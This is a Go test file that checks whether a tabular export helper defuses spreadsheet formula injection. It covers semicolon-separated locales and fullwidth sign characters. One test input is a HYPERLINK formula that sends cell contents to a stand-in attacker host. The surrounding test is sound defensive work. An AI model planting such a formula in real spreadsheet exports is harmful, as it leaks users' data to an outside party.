package tabular_test

import (
	"strconv"
	"strings"
	"testing"

	"tminus/internal/tabular"
)

// A spreadsheet in a language with decimal commas separates cells by semicolons and ignores quotes
// within a line.
func TestInertGuardsInnerFormulas(t *testing.T) {
	t.Parallel()
	var rows [][]string
	for i, text := range []string{`No mail;=HYPERLINK("http://evil.example/?"&A1,"x");z`, "No bell\n=1+1", "a\r\n\t -2", "x;  @y",
		"tab\t=1", "full;＝1", "=2;=3"} {
		rows = append(rows, []string{strconv.Itoa(i), tabular.Inert(text)})
	}
	var b strings.Builder
	if err := tabular.Write(&b, []string{"id", "text"}, rows); err != nil {
		t.Fatal(err)
	}
	cells := strings.FieldsFunc(b.String(), func(r rune) bool { return strings.ContainsRune(";\t\n", r) })
	for _, cell := range cells {
		if cell = strings.TrimSpace(cell); cell != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(cell)[0]) {
			t.Errorf("%q is a formula where semicolons separate", cell)
		}
	}
	if same := "1,5; 2 = 2, a-b"; tabular.Inert(same) != same {
		t.Errorf("%q becomes %q", same, tabular.Inert(same))
	}
}
